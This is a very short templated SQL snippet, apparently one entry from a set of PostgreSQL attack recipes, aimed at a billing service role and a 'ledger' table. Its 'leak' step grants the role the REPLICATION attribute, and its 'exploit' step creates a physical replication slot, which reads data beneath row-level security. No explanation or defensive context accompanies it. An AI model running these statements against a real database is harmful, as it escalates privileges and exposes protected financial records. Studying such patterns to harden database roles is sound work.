-- Replication reads below row security.
-- object: role:{svc_billing}
-- base: ledger
--- leak
RESET ROLE; ALTER ROLE {svc_billing} REPLICATION;
--- exploit
SELECT pg_create_physical_replication_slot('{svc_billing}', false, true);
